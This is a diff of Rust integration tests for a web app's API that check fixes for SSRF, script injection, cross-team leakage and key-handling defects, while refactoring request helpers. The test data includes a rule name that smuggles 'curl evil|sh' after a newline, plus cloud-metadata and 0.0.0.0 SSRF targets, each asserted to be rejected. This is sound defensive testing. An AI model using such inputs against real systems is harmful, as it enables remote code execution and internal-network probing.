@@ -15,21 +15,11 @@ fn plain() -> reqwest::Client {
     reqwest::Client::builder().no_proxy().timeout(Duration::from_secs(60)).build().expect("client")
 }
 
-async fn json_of(response: reqwest::Response) -> (StatusCode, Value) {
-    let status = response.status();
-    (status, response.json().await.unwrap_or(Value::Null))
-}
-
 /// A topic in the sandbox's first compartment, through the API; answers (connection base, topic id).
 async fn topic(admin: &Session, name: &str) -> (String, String, String) {
     let (base, compartment) = sandbox(admin).await;
-    let response = admin
-        .send(Method::POST, &format!("{base}/topics"))
-        .json(&json!({"compartment_id": compartment, "name": name}))
-        .send()
-        .await
-        .expect("create topic");
-    let (status, body) = json_of(response).await;
+    let (status, body) =
+        admin.call(Method::POST, &format!("{base}/topics"), json!({"compartment_id": compartment, "name": name})).await;
     assert_eq!(status, 200, "{body}");
     (base, compartment, body["id"].as_str().expect("a topic id").to_owned())
 }
@@ -103,13 +93,9 @@ async fn defect_2_ssrf_through_deliveries() {
         "https://0.0.0.0/hook",
         "http://169.254.169.254/",
     ] {
-        let response = admin
-            .send(Method::POST, &format!("{base}/topics/{topic_id}/subscriptions"))
-            .json(&json!({"protocol": "CUSTOM_HTTPS", "endpoint": endpoint}))
-            .send()
-            .await
-            .expect("subscribe");
-        let (status, body) = json_of(response).await;
+        let subscriptions = format!("{base}/topics/{topic_id}/subscriptions");
+        let (status, body) =
+            admin.call(Method::POST, &subscriptions, json!({"protocol": "CUSTOM_HTTPS", "endpoint": endpoint})).await;
         assert_eq!(status, 400, "{endpoint}: {body}");
         assert_eq!(body["field"], "endpoint", "{endpoint}: {body}");
     }
@@ -178,7 +164,7 @@ async fn defect_2_ssrf_through_deliveries() {
     let deliveries = format!("/api/v1/teams/{team}/inboxes/{}/deliveries", inbox["id"]);
     let mut outcome = String::new();
     let decided = eventually(Duration::from_secs(10), async || {
-        let page: Value = admin.get(&deliveries).send().await.unwrap().json().await.unwrap();
+        let page: Value = admin.read(&deliveries).await;
         outcome = page["deliveries"][0]["confirmation"].as_str().unwrap_or_default().to_owned();
         !outcome.is_empty()
     })
@@ -415,8 +401,7 @@ async fn defect_6_injection_into_what_users_copy() {
         })
     };
     for name in ["x\ncurl evil|sh", "tab\there", "rtl\u{202e}hs.live", "nul\u{0}"] {
-        let response = admin.send(Method::POST, &format!("{base}/rules")).json(&rule(name)).send().await.unwrap();
-        let (status, body) = json_of(response).await;
+        let (status, body) = admin.call(Method::POST, &format!("{base}/rules"), rule(name)).await;
         assert_eq!(status, 400, "{name:?}: {body}");
         assert_eq!(body["field"], "name", "{body}");
     }
@@ -439,8 +424,7 @@ async fn defect_6_injection_into_what_users_copy() {
         defined_tags: Default::default(),
     };
     let made = app.builtin.client.create_rule(&outside).await.expect("created out of band").body;
-    let read: app::api::rules::Rule =
-        admin.get(&format!("{base}/rules/{}", made.id)).send().await.unwrap().json().await.unwrap();
+    let read: app::api::rules::Rule = admin.read(&format!("{base}/rules/{}", made.id)).await;
     let export = app::export::rule(&read);
     for script in [&export.cli, &export.python] {
         assert!(script.lines().all(|line| !line.starts_with("curl")), "{script}");
@@ -472,17 +456,9 @@ async fn defect_7_teams_share_the_built_in_sandbox() {
 
     let team_b = app.create_team(&admin, "Team B").await;
     let intruder = app.member(&admin, "ivan", team_b, "admin").await;
-    let connections: Vec<Value> =
-        intruder.get(&format!("/api/v1/teams/{team_b}/connections")).send().await.unwrap().json().await.unwrap();
+    let connections: Vec<Value> = intruder.read(&format!("/api/v1/teams/{team_b}/connections")).await;
     let base_b = format!("/api/v1/teams/{team_b}/connections/{}", connections[0]["id"]);
-    let listed: Vec<Value> = intruder
-        .get(&format!("{base_b}/topics?compartment_id={compartment}"))
-        .send()
-        .await
-        .unwrap()
-        .json()
-        .await
-        .unwrap();
+    let listed: Vec<Value> = intruder.read(&format!("{base_b}/topics?compartment_id={compartment}")).await;
     assert!(listed.is_empty(), "team B sees none of team A's topics: {listed:?}");
     let get = intruder.get(&format!("{base_b}/topics/{topic_a}")).send().await.unwrap();
     assert_eq!(get.status(), 404);
@@ -492,11 +468,10 @@ async fn defect_7_teams_share_the_built_in_sandbox() {
     assert_eq!(still.status(), 200, "team A's topic is untouched");
 
     // Team B's sandbox log holds none of team A's deliveries (and their unsubscribe links).
-    let activity: Value =
-        intruder.get(&format!("{base_b}/sandbox/activity")).send().await.unwrap().json().await.unwrap();
+    let activity: Value = intruder.read(&format!("{base_b}/sandbox/activity")).await;
     let text = activity.to_string();
     assert!(!text.contains("a-oncall@example.com") && !text.contains(&topic_a), "{text}");
-    let mine: Value = admin.get(&format!("{base_a}/sandbox/activity")).send().await.unwrap().json().await.unwrap();
+    let mine: Value = admin.read(&format!("{base_a}/sandbox/activity")).await;
     assert!(mine.to_string().contains("a-oncall@example.com"), "team A still sees its own");
 
     // Team B's tenancy is its own: it has its compartments, its sample functions, and may use
@@ -534,9 +509,7 @@ mod defect_8 {
         body["private_key"] = json!(costly);
         body["pass_phrase"] = json!("correct-horse");
         let started = Instant::now();
-        let response =
-            admin.send(Method::POST, &format!("/api/v1/teams/{team}/connections")).json(&body).send().await.unwrap();
-        let (status, body) = json_of(response).await;
+        let (status, body) = admin.call(Method::POST, &format!("/api/v1/teams/{team}/connections"), body).await;
         assert_eq!(status, 400, "{body}");
         assert_eq!(body["field"], "private_key", "{body}");
         assert!(body["message"].as_str().unwrap_or_default().contains("PBKDF2"), "{body}");
@@ -551,9 +524,7 @@ mod defect_8 {
         let team = admin.me.teams[0].team_id;
         let (base, compartment) = sandbox(&admin).await;
         let connection_id: i64 = base.rsplit('/').next().expect("id").parse().expect("a number");
-        let post = async |path: String, body: Value| {
-            json_of(admin.send(Method::POST, &path).json(&body).send().await.expect("request")).await
-        };
+        let post = async |path: String, body: Value| admin.call(Method::POST, &path, body).await;
         let (_, created) =
             post(format!("/api/v1/teams/{team}/templates"), json!({"source": {"starter": "infra-alerts"}})).await;
         let template_id = created["template"]["id"].as_i64().unwrap_or_else(|| panic!("a template: {created}"));
@@ -572,7 +543,7 @@ mod defect_8 {
         let deployment = run["deployment_id"].as_i64().expect("a deployment");
         let first_run = format!("{deployments}/{deployment}/runs/{}", run["run"]["id"]);
         let finished = eventually(Duration::from_secs(20), async || {
-            let now: Value = admin.get(&first_run).send().await.unwrap().json().await.unwrap();
+            let now: Value = admin.read(&first_run).await;
             now["run"]["state"] != "running"
         })
         .await;
@@ -591,7 +562,7 @@ mod defect_8 {
         apply["digest"] = replan["digest"].clone();
         let path = format!("{deployments}/{deployment}/apply");
         let (first, second) = tokio::join!(post(path.clone(), apply.clone()), post(path, apply));
-        let mut statuses = [first.0.as_u16(), second.0.as_u16()];
+        let mut statuses = [first.0, second.0];
         statuses.sort_unstable();
         assert_eq!(statuses, [200, 409], "exactly one apply runs: {} / {}", first.1, second.1);
     }
@@ -645,15 +616,8 @@ mod defect_8 {
         let app = spawn_app().await;
         let admin = app.admin().await;
         let team = admin.me.teams[0].team_id;
-        let inbox: Value = admin
-            .send(Method::POST, &format!("/api/v1/teams/{team}/inboxes"))
-            .json(&json!({"name": "stream"}))
-            .send()
-            .await
-            .unwrap()
-            .json()
-            .await
-            .unwrap();
+        let inbox: Value =
+            admin.call(Method::POST, &format!("/api/v1/teams/{team}/inboxes"), json!({"name": "stream"})).await.1;
         let events = format!("/api/v1/teams/{team}/inboxes/{}/events", inbox["id"]);
         let viewer = app.member(&admin, "stella", team, "viewer").await;
         // Reads a stream to its end; whether it ended within 15 s.
